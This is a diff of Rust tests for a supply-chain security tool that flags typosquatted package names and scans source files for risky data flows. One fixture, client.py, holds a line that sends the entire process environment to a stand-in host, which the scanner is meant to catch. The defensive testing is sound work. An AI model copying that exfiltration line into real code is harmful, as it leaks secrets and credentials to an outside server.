@@ -297,3 +297,117 @@ fn a_login_in_a_lockfile_is_not_shown_or_kept() {
         }
     }
 }
+
+#[test]
+fn names_like_a_brand_are_flagged_and_say_why() {
+    let here = tempfile::tempdir().expect("a folder");
+    let args = ["squat", "--brand", "deepseek", "deepseeek", "deepseekai", "numpy"];
+    let shown = packages(here.path(), &args);
+    assert_eq!(shown.code, Some(10), "{}", shown.err);
+    for name in ["deepseeek ~ deepseek", "deepseekai ~ deepseek"] {
+        assert!(shown.out.contains(name), "{}", shown.out);
+    }
+    assert!(!shown.out.contains("numpy"), "{}", shown.out);
+    let json = packages(here.path(), &[&args[..], &["--format", "json"]].concat());
+    let rows = lines(&json);
+    let row = |row: &Value| {
+        let of = row["of"].as_str().unwrap_or("-");
+        format!("{} {of} {}", row["name"].as_str().unwrap_or("-"), row["flagged"])
+    };
+    let got: Vec<String> = rows.iter().map(row).collect();
+    assert_eq!(
+        got,
+        ["deepseeek deepseek true", "deepseekai deepseek true", "numpy - false"],
+        "{}",
+        json.out
+    );
+    for row in &rows[..2] {
+        assert!(row["operation"].is_string() && row["why"] == "brand", "{row}");
+        assert!(row["score"].as_f64().is_some_and(|it| (0.0..=1.0).contains(&it)), "{row}");
+    }
+}
+
+#[test]
+fn names_come_from_lists_and_lockfiles_with_their_lines() {
+    let here = tempfile::tempdir().expect("a folder");
+    let write = |name: &str, text: &str| fs::write(here.path().join(name), text).expect("written");
+    write("top.csv", "rank,name\n1,requests\n2,numpy\n");
+    write("names.txt", "# asked for\nreqeusts\nnumpy\n");
+    let list = packages(here.path(), &["squat", "--protected", "top.csv", "names.txt"]);
+    assert_eq!(list.code, Some(10), "{}", list.err);
+    assert!(list.out.contains("reqeusts ~ requests"), "{}", list.out);
+    write("requirements.txt", "numpy==2.0\nreqeusts==1.0\nkazemori-fare==9.0\n");
+    let used = ["squat", "--protected", "top.csv", "--used", "requirements.txt"];
+    let used = packages(here.path(), &[&used[..], &["--private", "kazemori-"]].concat());
+    assert_eq!(used.code, Some(10), "{}", used.err);
+    assert!(used.out.contains("requirements.txt:2"), "{}", used.out);
+    assert!(used.out.contains("pkg:pypi/kazemori-fare@9.0"), "{}", used.out);
+}
+
+#[test]
+fn what_people_try_first_with_names_gets_an_answer() {
+    let here = tempfile::tempdir().expect("a folder");
+    let fails = |args: &[&str], word: &str| {
+        let ran = packages(here.path(), &[&["squat"], args].concat());
+        assert!(ran.code == Some(2) && ran.err.contains(word), "{args:?}: {}{}", ran.out, ran.err);
+    };
+    fails(&["requests"], "NRS-FLOW-072");
+    fails(&["--brand", "x", "."], "NRS-FLOW-073");
+    fails(&["--brand", "x", "nmaes.txt"], "NRS-FLOW-073");
+    fails(&["--protected", "nope.csv", "requests"], "NRS-FLOW-010");
+    fails(&["--brand", "x", "--ecosystem", "pypy", "requests"], "pypi");
+    fails(&["--brand", "x"], "NAMES");
+    fs::write(here.path().join("empty.txt"), "").expect("written");
+    let empty = packages(here.path(), &["squat", "--brand", "deepseek", "empty.txt"]);
+    assert_eq!((empty.code, empty.out.as_str()), (Some(0), ""), "{}", empty.err);
+}
+
+#[test]
+fn source_on_disk_is_read_and_may_be_accepted() {
+    let here = tempfile::tempdir().expect("a folder");
+    let write = |name: &str, text: &str| fs::write(here.path().join(name), text).expect("written");
+    write(
+        "client.py",
+        "import os\nimport requests\nrequests.post('https://c.example', json=dict(os.environ))\n",
+    );
+    write("honest.py", "import os\nprint(os.environ['HOME'])\n");
+    let shown = packages(here.path(), &["scan", "."]);
+    assert_eq!(shown.code, Some(10), "{}", shown.err);
+    assert!(shown.out.contains("client.py:3") && !shown.out.contains("honest"), "{}", shown.out);
+    let rows = lines(&packages(here.path(), &["scan", ".", "--format", "json"]));
+    assert_eq!(rows.len(), 1, "{rows:?}");
+    let (row, hash) = (&rows[0], rows[0]["sha256"].as_str().expect("a hash").to_owned());
+    assert!(row["rule"] == "environment-to-network" && row["grade"] == "high", "{row}");
+    let accept = |until: &str| {
+        let entry = format!(
+            "[[accept]]\nsha256 = \"{hash}\"\nrule = \"environment-to-network\"\nreason = \"ours\"\nuntil = \"{until}\"\n"
+        );
+        write("accepted.toml", &entry);
+        packages(here.path(), &["scan", ".", "--accept", "accepted.toml"])
+    };
+    let accepted = accept("2999-01-01");
+    assert!(accepted.code == Some(0) && accepted.out.contains("ours"), "{}", accepted.out);
+    let over = accept("2020-01-01");
+    assert_eq!(over.code, Some(10), "{}{}", over.out, over.err);
+}
+
+#[test]
+fn what_people_try_first_with_source_gets_an_answer() {
+    let here = tempfile::tempdir().expect("a folder");
+    let write = |name: &str, text: &[u8]| fs::write(here.path().join(name), text).expect("written");
+    let nothing = packages(here.path(), &["scan", "."]);
+    assert!(nothing.code == Some(2) && nothing.err.contains("fix:"), "{}", nothing.err);
+    let gone = packages(here.path(), &["scan", "nope"]);
+    assert!(gone.code == Some(2) && gone.err.contains("NRS-FLOW-010"), "{}", gone.err);
+    write("empty.py", b"");
+    let empty = packages(here.path(), &["scan", "empty.py"]);
+    assert_eq!((empty.code, empty.out.as_str()), (Some(0), ""), "{}", empty.err);
+    write("large.js", &b"a = 1;\n".repeat(1_300_000));
+    let large = packages(here.path(), &["scan", "large.js"]);
+    assert!(large.err.contains("NRS-PACKAGE-020"), "{}", large.err);
+    let grade = packages(here.path(), &["scan", ".", "--grade", "hihg"]);
+    assert!(grade.code == Some(2) && grade.err.contains("high"), "{}", grade.err);
+    write("broken.toml", b"[[accept]\n");
+    let broken = packages(here.path(), &["scan", "empty.py", "--accept", "broken.toml"]);
+    assert!(broken.err.contains("NRS-PACKAGE-"), "{}", broken.err);
+}
